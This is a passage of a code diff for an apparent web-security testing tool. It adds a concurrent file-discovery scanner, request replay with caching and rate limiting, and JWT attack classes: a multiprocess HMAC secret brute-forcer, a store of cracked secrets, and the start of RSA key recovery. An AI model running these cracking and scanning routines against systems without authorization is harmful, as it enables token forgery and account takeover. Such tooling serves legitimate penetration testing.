+        yield from self.scan_targets(list(parsed_targets.items()), use_proxy, proxy_address, verify, concurrency, body_cap, resume, wordlist, use_cache)
+
+    def scan_targets(self, targets, use_proxy=False, proxy_address=None, verify=True, concurrency=None, body_cap=None, resume=True, wordlist='common', use_cache=False):
+        try:
             # Configure proxy if enabled
             proxies = None
             if use_proxy:
                 if not proxy_address:
-                    return {"error": "Please enter a proxy address"}
+                    yield {"error": "Please enter a proxy address"}
+                    return
                 proxies = {
                     'http': proxy_address,
                     'https': proxy_address
                 }
             
-            # Load common files to check
-            with open('common_files.txt', 'r') as f:
-                common_files = [line.strip() for line in f if line.strip()]
+            # Files to check are streamed from the memory-mapped wordlist
+            try:
+                wordlist_entry = self.wordlists.open(wordlist)
+            except (KeyError, OSError) as e:
+                yield {"error": f"Failed to load wordlist: {str(e)}"}
+                return
+            common_files = wordlist_entry["wordlist"]
+            wordlist_identity = wordlist_entry["identity"]
             
-            total_files = len(common_files)
-            found_files = []
-            checked_files = []
+            progress = ScanProgress(len(common_files) * len(targets))
+
+            # Every target keeps its own checkpoint, so each one resumes where an
+            # interrupted scan of the same target, list and settings stopped
+            checkpoints = {}
+            for base_url, headers in targets:
+                settings = self.checkpoint_store.get_settings(headers, proxies, verify)
+                state = self.checkpoint_store.load(base_url, wordlist_identity, settings) if resume else None
+                checkpoints[base_url] = ScanCheckpoint(self.checkpoint_store, base_url, wordlist_identity, state, settings)
+                if state:
+                    progress.restore(state["total_files_checked"], state["found_files"])
+
+            yield progress.snapshot()
             
-            for file_path in common_files:
-                # Try the file path
-                url = f"{base_url}{file_path}"
-                try:
-                    response = requests.get(
-                        url, 
-                        headers=headers, 
-                        verify=verify,
-                        proxies=proxies,
-                        timeout=5,
-                        allow_redirects=False
-                    )
-                    status = {
-                        "file_path": file_path,
-                        "url": url,
-                        "status_code": response.status_code,
-                        "success": response.status_code == 200
-                    }
-                    checked_files.append(status)
-                    
-                    if response.status_code == 200:
-                        found_files.append({
+            def probe(entry):
+                base_url, headers, index, file_path = entry
+                result = self.probe_url(
+                    f"{base_url}/{file_path.lstrip('/')}",
+                    headers=headers,
+                    proxies=proxies,
+                    verify=verify,
+                    body_cap=body_cap,
+                    use_cache=use_cache
+                )
+                # Compared against what the target answers for a path that cannot
+                # exist, a 200 that looks like that page is a soft 404
+                baseline = self.get_soft_404_baseline(base_url, headers, proxies, verify, body_cap)
+                result["fingerprint"] = self.fingerprinter.fingerprint(
+                    result["status_code"], result["body"], result["response_length"], reflected=(file_path.strip('/'),)
+                )
+                result["soft_404"] = self.fingerprinter.matches(result["fingerprint"], baseline)
+                return result
+
+            def remaining(base_url, headers):
+                checkpoint = checkpoints[base_url]
+                for index, entry in enumerate(common_files.entries()):
+                    if not checkpoint.is_done(index):
+                        yield base_url, headers, index, str(entry, 'utf-8', 'surrogateescape')
+
+            queues = {base_url: remaining(base_url, headers) for base_url, headers in targets}
+            # Found files are grouped by body, identical pages share a cluster id
+            clusters = ResponseClusters(self.fingerprinter)
+
+            # Check files concurrently across all targets, results arrive in completion order
+            completed = False
+            try:
+                for (base_url, headers, index, file_path), result, error in self.scan_engine.run_fair(
+                    probe,
+                    queues,
+                    concurrency=concurrency
+                ):
+                    found_file = None
+                    if error is not None:
+                        checked_file = {
+                            "target": base_url,
                             "file_path": file_path,
-                            "url": url,
-                            "response_length": len(response.text)
-                        })
-                except Exception as e:
-                    checked_files.append({
-                        "file_path": file_path,
-                        "url": url,
-                        "status_code": 0,
-                        "success": False,
-                        "error": str(e)
-                    })
-            
-            return {
-                "total_files": total_files,
-                "total_files_checked": len(checked_files),
-                "files_found": len(found_files),
-                "found_files": found_files,
-                "checked_files": checked_files
-            }
+                            "url": f"{base_url}/{file_path.lstrip('/')}",
+                            "status_code": 0,
+                            "success": False,
+                            "error": str(error)
+                        }
+                    else:
+                        success = result["status_code"] == 200 and not result["soft_404"]
+                        checked_file = {
+                            "target": base_url,
+                            "file_path": file_path,
+                            "url": result["url"],
+                            "status_code": result["status_code"],
+                            "success": success,
+                            "response_length": result["response_length"] if success else None
+                        }
+                        if result["soft_404"]:
+                            checked_file["soft_404"] = True
+                        if success:
+                            cluster_id, _ = clusters.add(result["fingerprint"])
+                            found_file = {
+                                "target": base_url,
+                                "file_path": file_path,
+                                "url": result["url"],
+                                "response_length": result["response_length"],
+                                "cluster": cluster_id
+                            }
+
+                    # Only new results are sent, batched
+                    progress.add(checked_file, found_file)
+                    checkpoint = checkpoints[base_url]
+                    checkpoint.mark(index, found_file)
+                    checkpoint.maybe_save()
+                    yield from progress.events()
+                completed = True
+            finally:
+                # A finished scan drops its checkpoints, an interrupted one saves them
+                for checkpoint in checkpoints.values():
+                    if completed:
+                        checkpoint.finish()
+                    else:
+                        checkpoint.save()
+
+            yield from progress.events(force=True)
+            yield progress.snapshot(done=True)
         except Exception as e:
-            return {"error": f"Failed to check common files: {str(e)}"}
+            yield {"error": f"Failed to check common files: {str(e)}"}
+
+    def collect_scan_results(self, events):
+        total_files = 0
+        total_files_checked = 0
+        resumed_files = 0
+        found_files = []
+        checked_files = []
+        seeded = False
+
+        for event in events:
+            if "error" in event:
+                return event
+            total_files = event["total_files"]
+            total_files_checked = event["total_files_checked"]
+            if event["type"] == "snapshot" and not seeded:
+                # The first snapshot carries what a resumed scan restored from its
+                # checkpoint, the deltas after it only hold new results
+                found_files.extend(event["found_files"])
+                resumed_files = event.get("resumed_files", 0)
+                seeded = True
+            elif event["type"] == "delta":
+                checked_files.extend(event["checked_files"])
+                found_files.extend(event["found_files"])
+        
+        result = {
+            "total_files": total_files,
+            "total_files_checked": total_files_checked,
+            "files_found": len(found_files),
+            "found_files": found_files,
+            "checked_files": checked_files
+        }
+        if resumed_files:
+            # Paths checked by the interrupted run are counted but not listed
+            result["resumed_files"] = resumed_files
+        return result
 
-    def process_request(self, request_text, use_proxy=False, proxy_address=None, verify=True):
+    def check_common_files(self, request_text, use_proxy=False, proxy_address=None, verify=True, concurrency=None, body_cap=None, resume=True, wordlist='common', use_cache=False):
+        return self.collect_scan_results(self.iter_common_files(
+            request_text, use_proxy, proxy_address, verify, concurrency, body_cap, resume, wordlist, use_cache
+        ))
+
+    def check_common_files_batch(self, targets, use_proxy=False, proxy_address=None, verify=True, concurrency=None, body_cap=None, resume=True, wordlist='common', use_cache=False):
+        return self.collect_scan_results(self.iter_common_files_batch(
+            targets, use_proxy, proxy_address, verify, concurrency, body_cap, resume, wordlist, use_cache
+        ))
+
+    def process_request(self, request_text, use_proxy=False, proxy_address=None, verify=True, rate_limit=False, use_cache=False):
         try:
-            # Parse the raw HTTP request
-            request_lines = request_text.split('\n')
-            if not request_lines:
-                return {"error": "Empty request"}
-
-            # Parse first line (method, path, version)
-            first_line = request_lines[0].split()
-            if len(first_line) < 2:
-                return {"error": "Invalid request format"}
-            
-            method = first_line[0]
-            path = first_line[1]
-            
-            headers = {}
-            current_line = 1
-            while current_line < len(request_lines) and request_lines[current_line].strip():
-                header_line = request_lines[current_line].strip()
-                if ':' in header_line:
-                    key, value = header_line.split(':', 1)
-                    headers[key.strip()] = value.strip()
-                current_line += 1
-            
-            body = None
-            if current_line < len(request_lines):
-                body = '\n'.join(request_lines[current_line + 1:]).strip()
+            # Parse the raw HTTP request, callers that send many variants of one
+            # request pass a ParsedRequest instead
+            if isinstance(request_text, ParsedRequest):
+                parsed = request_text
+            else:
+                try:
+                    parsed = ParsedRequest.parse(request_text)
+                except ValueError as e:
+                    return {"error": str(e)}
+
+            method = parsed.method
+            headers = parsed.header_dict()
+            body = parsed.body
             
+            path = parsed.target
             if not path.startswith('http'):
                 # If host header exists, use it to construct full URL
-                host = headers.get('Host', '')
-                if host:
-                    path = f"https://{host}{path}"
+                if parsed.get_header('Host'):
+                    path = parsed.get_url()
                 else:
                     return {"error": "No host specified in headers and path is not absolute URL"}
             else:
@@ -198,32 +2267,74 @@ class HTTPRequestTool:
                     'https': proxy_address
                 }
             
-            # Send the request
-            response = requests.request(
-                method=method,
-                url=path,
-                headers=headers,
-                data=body,
-                verify=verify,
-                proxies=proxies,
-                allow_redirects=False 
-            )
-            
-            response_text = f"HTTP/{response.raw.version / 10.0} {response.status_code} {response.reason}\r\n"
-            for key, value in response.headers.items():
-                response_text += f"{key}: {value}\r\n"
-            response_text += "\r\n"
-            response_text += response.text
+            # Identical requests sent within the cache TTL reuse the earlier response
+            cache_key = self.response_cache.get_key(method, path, headers, body, proxies, verify)
+            cached = self.response_cache.get(cache_key) if use_cache else None
+            timings = None
+            if cached is not None and not self.body_store.exists(cached["body_handle"]):
+                # The full body was evicted from the store since this entry was cached
+                cached["body_handle"] = None
+            if cached is None:
+                # Send the request, attack loops go through the per-host rate controller
+                throttle = self.rate_controller.throttle(urlparse(path).netloc) if rate_limit else nullcontext({})
+                with throttle as feedback:
+                    response = self.connection_pool.request(
+                        method=method,
+                        url=path,
+                        headers=headers,
+                        data=body,
+                        verify=verify,
+                        proxies=proxies,
+                        allow_redirects=False,
+                        stream=True
+                    )
+                    feedback["status_code"] = response.status_code
+                    feedback["retry_after"] = response.headers.get('Retry-After')
+
+                # The body is streamed into the body store, only a preview is
+                # decoded and returned
+                try:
+                    captured = self.body_store.capture(
+                        response.iter_content(chunk_size=8192),
+                        response.headers.get('Content-Type')
+                    )
+                    timings = self.connection_pool.finish(response)
+                finally:
+                    response.close()
+
+                try:
+                    preview = captured["preview"].decode(response.encoding or 'utf-8', errors='replace')
+                except LookupError:
+                    preview = captured["preview"].decode('utf-8', errors='replace')
+
+                parts = [f"HTTP/{response.raw.version / 10.0} {response.status_code} {response.reason}\r\n"]
+                parts.extend(f"{key}: {value}\r\n" for key, value in response.headers.items())
+                parts.append("\r\n")
+                parts.append(preview)
+                cached = {
+                    "response": ''.join(parts),
+                    "body_length": captured["length"],
+                    "body_truncated": captured["truncated"],
+                    "body_handle": captured["handle"],
+                    "fingerprint": self.fingerprinter.fingerprint(response.status_code, captured["preview"], captured["length"])
+                }
+                self.response_cache.put(cache_key, cached, len(cached["response"]))
             
-            jwt_tokens = self.jwt_attacks.find_jwt(request_text)
-            jwt_decoded = ""
-            if jwt_tokens:
-                for i, token in enumerate(jwt_tokens, 1):
-                    jwt_decoded += f"JWT #{i}:\n{self.jwt_attacks.decode_jwt(token)}\n\n"
+            jwt_tokens = self.jwt_attacks.find_jwt(parsed)
+            jwt_decoded = ''.join(
+                f"JWT #{i}:\n{self.jwt_attacks.decode_jwt(token)}\n\n"
+                for i, token in enumerate(jwt_tokens, 1)
+            )
             
             return {
-                "response": response_text,
-                "jwt_tokens": jwt_decoded
+                "response": cached["response"],
+                "jwt_tokens": jwt_decoded,
+                "body_length": cached["body_length"],
+                "body_truncated": cached["body_truncated"],
+                "body_handle": cached["body_handle"],
+                "fingerprint": cached["fingerprint"],
+                # None when the response came from the cache
+                "timings": timings
             }
             
         except Exception as e:
@@ -232,18 +2343,11 @@ class HTTPRequestTool:
     def analyze_headers(self, request_text):
         try:
             # Parse the request to get headers
-            request_lines = request_text.split('\n')
-            if not request_lines:
-                return {"error": "No request found"}
+            parsed = request_text if isinstance(request_text, ParsedRequest) else ParsedRequest.parse(request_text, strict=False)
+            request_lines = parsed.lines if parsed.lines is not None else parsed.text.split('\n')
             
             # Get headers from request
-            request_headers = {}
-            for line in request_lines[1:]:  # Skip first line (method and path)
-                if not line.strip():  # Empty line indicates end of headers
-                    break
-                if ':' in line:
-                    key, value = line.split(':', 1)
-                    request_headers[key.strip()] = value.strip()
+            request_headers = parsed.header_dict()
             
             # Load header information from JSON file
             try:
@@ -324,15 +2428,858 @@ class HTTPRequestTool:
                 "custom_headers": sum(1 for h in all_headers if not h["is_standard"]),
                 "headers": all_headers
             }
-            
-        except Exception as e:
-            return {"error": f"Failed to analyze headers: {str(e)}"}
+            
+        except Exception as e:
+            return {"error": f"Failed to analyze headers: {str(e)}"}
+
+class KeyPool:
+    EC_CURVES = {
+        'P-256': (ec.SECP256R1, 'ES256'),
+        'P-384': (ec.SECP384R1, 'ES384'),
+        'P-521': (ec.SECP521R1, 'ES512')
+    }
+
+    def __init__(self, rsa_key_sizes=(2048,), ec_curves=('P-256',), pool_size=4):
+        # Key generation happens on a background thread, requests only pop a ready
+        # key and its already-encoded JWK
+        if isinstance(pool_size, bool) or not isinstance(pool_size, int) or pool_size < 1:
+            raise ValueError(f"Pool size must be a positive integer: {pool_size!r}")
+        self.pool_size = pool_size
+        self.pools = OrderedDict()
+        for key_size in rsa_key_sizes:
+            if isinstance(key_size, bool) or not isinstance(key_size, int) or key_size < 1024:
+                raise ValueError(f"Unsupported RSA key size: {key_size!r}")
+            self.pools[('RSA', key_size)] = deque()
+        for curve in ec_curves:
+            if curve not in self.EC_CURVES:
+                raise ValueError(f"Unsupported EC curve: {curve!r}")
+            self.pools[('EC', curve)] = deque()
+        self.refill_event = threading.Event()
+        self.thread = None
+        self.lock = threading.Lock()
+        self.stats = {"taken": 0, "misses": 0, "generated": 0, "errors": 0, "last_error": None}
+
+    @staticmethod
+    def b64(value, length):
+        return base64.urlsafe_b64encode(value.to_bytes(length, byteorder='big')).decode('utf-8').rstrip('=')
+
+    def generate(self, key_type, size):
+        if key_type == 'RSA':
+            private_key = rsa.generate_private_key(
+                public_exponent=65537,
+                key_size=size,
+                backend=default_backend()
+            )
+            public_numbers = private_key.public_key().public_numbers()
+            jwk = {
+                "kty": "RSA",
+                "n": self.b64(public_numbers.n, (size + 7) // 8),
+                "e": self.b64(public_numbers.e, 3)
+            }
+            algorithm = 'RS256'
+        elif key_type == 'EC' and size in self.EC_CURVES:
+            curve, algorithm = self.EC_CURVES[size]
+            private_key = ec.generate_private_key(curve(), backend=default_backend())
+            public_numbers = private_key.public_key().public_numbers()
+            length = (private_key.curve.key_size + 7) // 8
+            jwk = {
+                "kty": "EC",
+                "crv": size,
+                "x": self.b64(public_numbers.x, length),
+                "y": self.b64(public_numbers.y, length)
+            }
+        else:
+            raise ValueError(f"Unsupported key: {key_type} {size}")
+
+        with self.lock:
+            self.stats["generated"] += 1
+        return {
+            "private_key": private_key,
+            "algorithm": algorithm,
+            "jwk": jwk
+        }
+
+    def start(self):
+        with self.lock:
+            if self.thread is None:
+                self.thread = threading.Thread(target=self.fill, daemon=True)
+                self.thread.start()
+
+    def fill(self):
+        # A failed generation is recorded and that pool is retried on the next
+        # refill, take() still generates inline so requests are never blocked
+        while True:
+            for (key_type, size), pool in self.pools.items():
+                try:
+                    while len(pool) < self.pool_size:
+                        pool.append(self.generate(key_type, size))
+                except Exception as e:
+                    with self.lock:
+                        self.stats["errors"] += 1
+                        self.stats["last_error"] = f"Failed to generate {key_type}-{size} key: {str(e)}"
+            self.refill_event.wait()
+            self.refill_event.clear()
+
+    def take(self, key_type='RSA', size=2048):
+        # Each key is handed out once. An empty or unconfigured pool falls back to
+        # generating inline, the taken key is replaced off the request path
+        self.start()
+        pool = self.pools.get((key_type, size))
+        try:
+            entry = pool.popleft() if pool is not None else None
+        except IndexError:
+            entry = None
+        with self.lock:
+            self.stats["taken"] += 1
+            if entry is None:
+                self.stats["misses"] += 1
+        self.refill_event.set()
+        return entry if entry is not None else self.generate(key_type, size)
+
+    def get_stats(self):
+        with self.lock:
+            stats = dict(self.stats)
+        stats["pools"] = {f"{key_type}-{size}": len(pool) for (key_type, size), pool in self.pools.items()}
+        stats["pool_size"] = self.pool_size
+        return stats
+
+class SecretStore:
+    def __init__(self, path='cracked_secrets.sqlite'):
+        # Cracked secrets survive restarts, keyed by a hash of the token's signing input.
+        # The database is opened on first use, so importing the module or building
+        # the tool creates no file; the one connection is then shared and calls are
+        # serialized by the lock
+        self.path = path
+        self.lock = threading.Lock()
+        self.connection = None
+
+    def open(self):
+        # Caller must hold self.lock
+        directory = os.path.dirname(self.path)
+        if directory:
+            os.makedirs(directory, exist_ok=True)
+        connection = sqlite3.connect(self.path, check_same_thread=False)
+        with connection:
+            connection.execute(
+                "CREATE TABLE IF NOT EXISTS secrets ("
+                "signing_input_hash TEXT NOT NULL, "
+                "algorithm TEXT NOT NULL, "
+                "issuer TEXT NOT NULL, "
+                "secret BLOB NOT NULL, "
+                "cracked REAL NOT NULL, "
+                "PRIMARY KEY (signing_input_hash, secret))"
+            )
+            connection.execute("CREATE INDEX IF NOT EXISTS secrets_issuer ON secrets (issuer)")
+        self.connection = connection
+
+    @contextmanager
+    def connect(self):
+        # Commits on success, rolls back if the block raises
+        with self.lock:
+            if self.connection is None:
+                self.open()
+            with self.connection:
+                yield self.connection
+
+    def close(self):
+        with self.lock:
+            if self.connection is not None:
+                self.connection.close()
+
+    def get_key(self, signing_input):
+        return hashlib.sha256(signing_input).hexdigest()
+
+    def lookup(self, signing_input):
+        with self.connect() as connection:
+            rows = connection.execute(
+                "SELECT secret FROM secrets WHERE signing_input_hash = ?",
+                (self.get_key(signing_input),)
+            ).fetchall()
+        return [bytes(row[0]) for row in rows]
+
+    def issuer_secrets(self, issuer):
+        # Most recently cracked first, a service usually keeps signing with its latest key
+        with self.connect() as connection:
+            rows = connection.execute(
+                "SELECT secret FROM secrets WHERE issuer = ? GROUP BY secret ORDER BY MAX(cracked) DESC",
+                (issuer,)
+            ).fetchall()
+        return [bytes(row[0]) for row in rows]
+
+    def record(self, signing_input, algorithm, issuer, secret):
+        with self.connect() as connection:
+            connection.execute(
+                "INSERT OR REPLACE INTO secrets (signing_input_hash, algorithm, issuer, secret, cracked) VALUES (?, ?, ?, ?, ?)",
+                (self.get_key(signing_input), algorithm, issuer, secret, time.time())
+            )
+
+    def get_stats(self):
+        with self.connect() as connection:
+            total, issuers = connection.execute("SELECT COUNT(*), COUNT(DISTINCT issuer) FROM secrets").fetchone()
+        return {"path": self.path, "secrets": total, "issuers": issuers}
+
+class JWTCracker:
+    HMAC_ALGORITHMS = {
+        'HS256': hashlib.sha256,
+        'HS384': hashlib.sha384,
+        'HS512': hashlib.sha512
+    }
+    TRANS_36 = bytes((x ^ 0x36) for x in range(256))
+    TRANS_5C = bytes((x ^ 0x5C) for x in range(256))
+
+    # Set in each worker process by init_worker
+    stop_event = None
+    wordlists = {}
+
+    def __init__(self, processes=None, shard_size=256 * 1024, progress_interval=0.5, start_method='spawn'):
+        self.processes = processes or os.cpu_count() or 1
+        self.shard_size = shard_size
+        self.progress_interval = progress_interval
+        # Workers are spawned, not forked: a fork from the threaded server copies
+        # locks other threads hold (logging, connection pools) and can deadlock
+        self.start_method = start_method
+
+    @staticmethod
+    def parse_token(token):
+        parts = token.split('.')
+        if len(parts) != 3 or not parts[2]:
+            raise ValueError("The token must have a header, payload and signature")
+        header = json.loads(base64.urlsafe_b64decode(parts[0] + '=' * (-len(parts[0]) % 4)))
+        algorithm = str(header.get('alg', '')).upper()
+        if algorithm not in JWTCracker.HMAC_ALGORITHMS:
+            raise ValueError(f"Only HS256, HS384 and HS512 tokens can be cracked (token uses {header.get('alg')})")
+        signing_input = f"{parts[0]}.{parts[1]}".encode('ascii')
+        signature = base64.urlsafe_b64decode(parts[2] + '=' * (-len(parts[2]) % 4))
+        return algorithm, signing_input, signature
+
+    @staticmethod
+    def get_issuer(token):
+        # The iss claim groups tokens signed by the same service, '' when there is none
+        try:
+            payload = token.split('.')[1]
+            claims = json.loads(base64.urlsafe_b64decode(payload + '=' * (-len(payload) % 4)))
+        except Exception:
+            return ''
+        issuer = claims.get('iss') if isinstance(claims, dict) else None
+        return str(issuer) if issuer is not None else ''
+
+    @staticmethod
+    def init_worker(stop_event):
+        JWTCracker.stop_event = stop_event
+        JWTCracker.wordlists = {}
+
+    @staticmethod
+    def crack_shard(algorithm, signing_input, signature, path, strip, start, end):
+        # Runs in a worker process, which maps the wordlist itself so only byte
+        # offsets cross the process boundary
+        wordlist = JWTCracker.wordlists.get(path)
+        if wordlist is None:
+            wordlist = JWTCracker.wordlists[path] = MappedWordlist(path, strip)
+        candidates = wordlist.read_shard(start, end)
+        index, tried = JWTCracker.crack_chunk(algorithm, signing_input, signature, candidates)
+        return (candidates[index] if index is not None else None), tried
+
+    @staticmethod
+    def crack_chunk(algorithm, signing_input, signature, candidates):
+        # Runs in a worker process. HMAC is H((K ^ opad) || H((K ^ ipad) || m)); the
+        # padded key states are built per candidate with bytes.translate and the
+        # same signing input is fed to every inner hash
+        digest = JWTCracker.HMAC_ALGORITHMS[algorithm]
+        block_size = digest().block_size
+        trans_36 = JWTCracker.TRANS_36
+        trans_5c = JWTCracker.TRANS_5C
+        stop_event = JWTCracker.stop_event
+
+        for index, key in enumerate(candidates):
+            if index % 4096 == 0 and stop_event is not None and stop_event.is_set():
+                return None, index
+            if len(key) > block_size:
+                key = digest(key).digest()
+            key = key.ljust(block_size, b'\0')
+            inner = digest(key.translate(trans_36))
+            inner.update(signing_input)
+            outer = digest(key.translate(trans_5c))
+            outer.update(inner.digest())
+            if outer.digest() == signature:
+                return index, index + 1
+        return None, len(candidates)
+
+    @staticmethod
+    def crack_chunk_many(targets, candidates):
+        # Runs in a worker process. targets maps algorithm -> {signing input ->
+        # {signature -> [token indices]}}: the padded key states are built once per
+        # candidate and algorithm, one HMAC per distinct signing input is then
+        # checked against every signature seen for it
+        trans_36 = JWTCracker.TRANS_36
+        trans_5c = JWTCracker.TRANS_5C
+        stop_event = JWTCracker.stop_event
+        prepared = []
+        for algorithm, inputs in targets.items():
+            digest = JWTCracker.HMAC_ALGORITHMS[algorithm]
+            prepared.append((digest, digest().block_size, list(inputs.items())))
+
+        found = []
+        for index, key in enumerate(candidates):
+            if index % 4096 == 0 and stop_event is not None and stop_event.is_set():
+                return found, index
+            for digest, block_size, inputs in prepared:
+                padded = digest(key).digest() if len(key) > block_size else key
+                padded = padded.ljust(block_size, b'\0')
+                inner_key = digest(padded.translate(trans_36))
+                outer_key = digest(padded.translate(trans_5c))
+                for signing_input, signatures in inputs:
+                    inner = inner_key.copy()
+                    inner.update(signing_input)
+                    outer = outer_key.copy()
+                    outer.update(inner.digest())
+                    indices = signatures.get(outer.digest())
+                    if indices:
+                        found.append((indices, key))
+        return found, len(candidates)
+
+    @staticmethod
+    def crack_shard_many(targets, path, strip, start, end):
+        wordlist = JWTCracker.wordlists.get(path)
+        if wordlist is None:
+            wordlist = JWTCracker.wordlists[path] = MappedWordlist(path, strip)
+        return JWTCracker.crack_chunk_many(targets, wordlist.read_shard(start, end))
+
+    def crack_many(self, tokens, wordlist):
+        # Generator: one pass over the wordlist for every token, each cracked token is
+        # reported as soon as it is found, then one result with done=True
+        results = [{"token": token, "success": False} for token in tokens]
+        parsed = {}
+        for index, token in enumerate(tokens):
+            try:
+                parsed[index] = self.parse_token(token)
+                results[index]["algorithm"] = parsed[index][0]
+            except Exception as e:
+                results[index]["error"] = str(e)
+
+        def build_targets():
+            targets = {}
+            for index, (algorithm, signing_input, signature) in parsed.items():
+                if not results[index]["success"]:
+                    signatures = targets.setdefault(algorithm, {}).setdefault(signing_input, {})
+                    signatures.setdefault(signature, []).append(index)
+            return targets
+
+        total = wordlist.size
+        start_time = time.time()
+        targets = build_targets()
+        output = [
+            f"Engine: native ({self.processes} processes)",
+            f"Tokens: {len(parsed)} of {len(tokens)} crackable, "
+            f"{sum(len(inputs) for inputs in targets.values())} distinct signing inputs",
+            f"Wordlist: {wordlist.path} ({total} bytes)"
+        ]
+        yield {"output": '\n'.join(output) + '\n', "progress": 0, "total": total, "done": False}
+
+        context = multiprocessing.get_context(self.start_method)
+        stop_event = context.Event()
+        executor = ProcessPoolExecutor(
+            max_workers=self.processes,
+            mp_context=context,
+            initializer=JWTCracker.init_worker,
+            initargs=(stop_event,)
+        )
+        shards = wordlist.shards(self.shard_size)
+        pending = {}
+        tried = 0
+        done_bytes = 0
+        cracked = 0
+        last_progress = time.time()
+
+        def submit(count):
+            for start, end in itertools.islice(shards, count):
+                future = executor.submit(JWTCracker.crack_shard_many, targets, wordlist.path, wordlist.strip, start, end)
+                pending[future] = end - start
+
+        try:
+            submit(self.processes * 2 if targets else 0)
+            while pending:
+                done, _ = wait(pending, return_when=FIRST_COMPLETED)
+                for future in done:
+                    done_bytes += pending.pop(future)
+                    found, count = future.result()
+                    tried += count
+                    for indices, key in found:
+                        secret = key.decode('utf-8', errors='surrogateescape')
+                        for index in indices:
+                            # Shards already in flight may find the same token again
+                            if results[index]["success"]:
+                                continue
+                            results[index].update(success=True, secret=secret, engine="native")
+                            cracked += 1
+                            yield {
+                                "found": dict(results[index], index=index),
+                                "output": f"Cracked token #{index + 1} after {time.time() - start_time:.2f}s: {secret}\n",
+                                "progress": done_bytes,
+                                "total": total,
+                                "done": False
+                            }
+                    if found:
+                        # Later shards only carry the tokens still uncracked
+                        targets = build_targets()
+                        if not targets:
+                            stop_event.set()
+                    if targets:
+                        submit(1)
+
+                if time.time() - last_progress >= self.progress_interval:
+                    last_progress = time.time()
+                    rate = tried / max(time.time() - start_time, 1e-6)
+                    yield {
+                        "output": f"Tried {tried} candidates, {done_bytes * 100 // max(total, 1)}% of the wordlist, {cracked} cracked ({rate:.0f}/s)\n",
+                        "progress": done_bytes,
+                        "total": total,
+                        "done": False
+                    }
+
+            output.append(f"Cracked {cracked} of {len(tokens)} tokens after {tried} candidates in {time.time() - start_time:.2f}s")
+            yield {
+                "success": cracked > 0,
+                "cracked": cracked,
+                "results": results,
+                "engine": "native",
+                "output": output,
+                "done": True
+            }
+        finally:
+            stop_event.set()
+            for future in pending:
+                future.cancel()
+            executor.shutdown(wait=False)
+
+    def crack(self, token, wordlist):
+        # Generator: yields progress events and finally one result with done=True.
+        # wordlist is a MappedWordlist, progress is counted in bytes of it
+        try:
+            algorithm, signing_input, signature = self.parse_token(token)
+        except Exception as e:
+            yield {
+                "success": False,
+                "error": "Invalid JWT token",
+                "details": str(e),
+                "output": [],
+                "done": True
+            }
+            return
+
+        total = wordlist.size
+        start_time = time.time()
+        output = [
+            f"Engine: native ({self.processes} processes)",
+            f"Algorithm: {algorithm}",
+            f"Wordlist: {wordlist.path} ({total} bytes)"
+        ]
+        yield {"output": '\n'.join(output) + '\n', "progress": 0, "total": total, "done": False}
+
+        context = multiprocessing.get_context(self.start_method)
+        stop_event = context.Event()
+        executor = ProcessPoolExecutor(
+            max_workers=self.processes,
+            mp_context=context,
+            initializer=JWTCracker.init_worker,
+            initargs=(stop_event,)
+        )
+        shards = wordlist.shards(self.shard_size)
+        pending = {}
+        tried = 0
+        done_bytes = 0
+        last_progress = time.time()
+
+        def submit(count):
+            for start, end in itertools.islice(shards, count):
+                future = executor.submit(
+                    JWTCracker.crack_shard, algorithm, signing_input, signature,
+                    wordlist.path, wordlist.strip, start, end
+                )
+                pending[future] = end - start
+
+        try:
+            # Two shards per process keeps every core busy without queueing the whole list
+            submit(self.processes * 2)
+            while pending:
+                done, _ = wait(pending, return_when=FIRST_COMPLETED)
+                for future in done:
+                    done_bytes += pending.pop(future)
+                    match, count = future.result()
+                    tried += count
+                    if match is not None:
+                        # Stop the other workers at their next check
+                        stop_event.set()
+                        secret = match.decode('utf-8', errors='surrogateescape')
+                        elapsed = time.time() - start_time
+                        output.append(f"Cracked after {tried} candidates in {elapsed:.2f}s")
+                        yield {
+                            "success": True,
+                            "secret": secret,
+                            "algorithm": algorithm,
+                            "engine": "native",
+                            "details": f"Found matching secret key: {secret}",
+                            "output": output,
+                            "done": True
+                        }
+                        return
+                    submit(1)
+
+                if time.time() - last_progress >= self.progress_interval:
+                    last_progress = time.time()
+                    rate = tried / max(time.time() - start_time, 1e-6)
+                    yield {
+                        "output": f"Tried {tried} candidates, {done_bytes * 100 // max(total, 1)}% of the wordlist ({rate:.0f}/s)\n",
+                        "progress": done_bytes,
+                        "total": total,
+                        "done": False
+                    }
+
+            output.append(f"Exhausted {tried} candidates in {time.time() - start_time:.2f}s")
+            yield {
+                "success": False,
+                "error": "No matching secret found in wordlist",
+                "details": "The secret key was not found in the provided wordlist. Please check if the wordlist contains the correct secret.",
+                "engine": "native",
+                "output": output,
+                "done": True
+            }
+        finally:
+            stop_event.set()
+            for future in pending:
+                future.cancel()
+            executor.shutdown(wait=False)
+
+class RSAKeyRecovery:
+    # DER DigestInfo prefixes of EMSA-PKCS1-v1_5 (RFC 8017, section 9.2)
+    DIGEST_INFO = {
+        'RS256': (hashlib.sha256, bytes.fromhex('3031300d060960864801650304020105000420')),
+        'RS384': (hashlib.sha384, bytes.fromhex('3041300d060960864801650304020205000430')),
+        'RS512': (hashlib.sha512, bytes.fromhex('3051300d060960864801650304020305000440'))
+    }
+
+    def __init__(self, exponents=(65537, 3), poll_interval=1.0, start_method='spawn'):
+        self.exponents = exponents
+        self.poll_interval = poll_interval
+        # Spawned like the JWTCracker workers, forking from a threaded server can deadlock
+        self.start_method = start_method
+
+    @staticmethod
+    def parse_token(token):
+        parts = token.split('.')
+        if len(parts) != 3 or not parts[2]:
+            raise ValueError("The token must have a header, payload and signature")
+        header = json.loads(base64.urlsafe_b64decode(parts[0] + '=' * (-len(parts[0]) % 4)))
+        algorithm = str(header.get('alg', '')).upper()
+        if algorithm not in RSAKeyRecovery.DIGEST_INFO:
+            raise ValueError(f"Only RS256, RS384 and RS512 tokens can be used (token uses {header.get('alg')})")
+        signing_input = f"{parts[0]}.{parts[1]}".encode('ascii')
+        signature = base64.urlsafe_b64decode(parts[2] + '=' * (-len(parts[2]) % 4))
+        return algorithm, signing_input, signature
+
+    @staticmethod
+    def encode_message(algorithm, signing_input, length):
+        # EM = 0x00 || 0x01 || PS (0xff...) || 0x00 || DigestInfo || H(m)
+        digest, prefix = RSAKeyRecovery.DIGEST_INFO[algorithm]
+        digest_info = prefix + digest(signing_input).digest()
+        padding = b'\xff' * (length - len(digest_info) - 3)
+        return int.from_bytes(b'\x00\x01' + padding + b'\x00' + digest_info, byteorder='big')
+
+    @staticmethod
